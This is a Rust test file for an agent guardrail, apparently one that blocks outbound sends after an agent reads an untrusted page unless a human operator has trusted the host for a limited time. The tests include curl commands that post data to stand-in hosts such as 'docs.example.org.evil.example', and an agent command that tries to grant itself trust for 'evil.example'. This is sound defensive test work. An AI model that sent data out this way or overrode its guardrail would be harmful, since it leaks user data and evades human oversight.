//! `midrail flow`: hosts that a person trusts for a limited time.

use serde_json::{Value, json};

use crate::approvals::{call, world_of};
use crate::world::{Ended, World};

const PACK: &str = "pack: shop
guardrails:
  - {id: named-destinations, flow: {after: untrusted, does: send, unless: named}}
";

fn flow(world: &World, role: &str, args: &[&str]) -> Ended {
    let key = world.read(&format!("../keys/{role}"));
    let name = format!("{role}-1");
    world.feed(&[&["flow"], args, &["--as", &name, "--key-fd", "0"]].concat(), key)
}

fn send(host: &str) -> Value {
    call("Bash", json!({"command": format!("curl -d x https://{host}/in")}))
}

/// A page that the agent reads.
fn read(world: &World, host: &str) {
    let mut event = call("WebFetch", json!({"url": format!("https://{host}/page")}));
    event["kind"] = json!("after_tool");
    event["result"] = json!({"ok": true, "content": "a page"});
    world.check(&event).code(0);
}

#[test]
fn trusted_host_is_named_until_the_time_ends() {
    let world = world_of(PACK);
    world.stand_at("2026-11-15T10:00:00Z".parse().unwrap());
    world.run(&["flow", "list"]).code(0).says("No host is trusted for a limited time.");
    read(&world, "blog.example");
    world.check(&send("docs.example.org")).code(2);

    let ended = flow(&world, "human_operator", &["trust", "Docs.example.org", "--for", "2h"]).code(0);
    ended.says("docs.example.org is trusted until 2026-11-15 12:00:00Z");
    world.run(&["flow", "list"]).code(0).says("docs.example.org");
    world.check(&send("docs.example.org")).code(0);
    // A sub-domain and a mailbox are not the host.
    world.check(&send("eve.docs.example.org")).code(2);
    world.check(&send("docs.example.org.evil.example")).code(2);

    world.seconds(2 * 3_600);
    world.check(&send("docs.example.org")).code(2);
    world.run(&["flow", "list"]).code(0).says("No host is trusted for a limited time.");
    world.run(&["audit", "list"]).code(0).says("host trusted by human_operator-1");
    world.run(&["audit", "verify"]).code(0);
    world.run(&["audit", "replay"]).code(0);
}

#[test]
fn page_of_a_trusted_host_sets_no_label() {
    let world = world_of(PACK);
    flow(&world, "human_operator", &["trust", "docs.example.org", "--for", "1h"]).code(0);
    read(&world, "docs.example.org");
    world.check(&send("other.example")).code(0);
    world.run(&["flow", "distrust", "docs.example.org"]).code(0).says("is not trusted any more");
    world.run(&["audit", "list"]).code(0).says("host trust ended");
    read(&world, "docs.example.org");
    world.check(&send("other.example")).code(2);
    world
        .run(&["flow", "distrust", "docs.example.org"])
        .code(1)
        .complains("is not trusted for a limited time");
}

#[test]
fn trust_requires_an_operator_a_host_and_a_limit() {
    let world = world_of(PACK);
    flow(&world, "architect", &["trust", "docs.example.org", "--for", "1h"])
        .code(1)
        .complains("only a human_operator");
    flow(&world, "human_operator", &["trust", "docs.example.org", "--for", "25h"])
        .code(1)
        .complains("24 hours at most");
    for name in ["https://docs.example.org/a", "*.example.org", "ann@example.org", "docs"] {
        flow(&world, "human_operator", &["trust", name, "--for", "1h"])
            .code(1)
            .complains("not the name of a host");
    }
    world.run(&["flow", "trust", "docs.example.org", "--for", "1h"]).code(1).complains("--as");
    let wrong =
        ["flow", "trust", "docs.example.org", "--for", "1h", "--as", "human_operator-1", "--key-fd", "0"];
    world.feed(&wrong, "mrk_wrong").code(1).complains("with this key");
    world.run(&["flow", "list"]).code(0).says("No host is trusted");
}

#[test]
fn agent_cannot_trust_a_host() {
    let world = world_of(PACK);
    for command in [
        "midrail flow trust evil.example --for 2h --as human_operator-1",
        "midrail --json flow distrust a.example",
    ] {
        world.check(&call("Bash", json!({"command": command}))).code(2);
    }
    world.check(&call("Bash", json!({"command": "midrail flow list"}))).code(0);
}
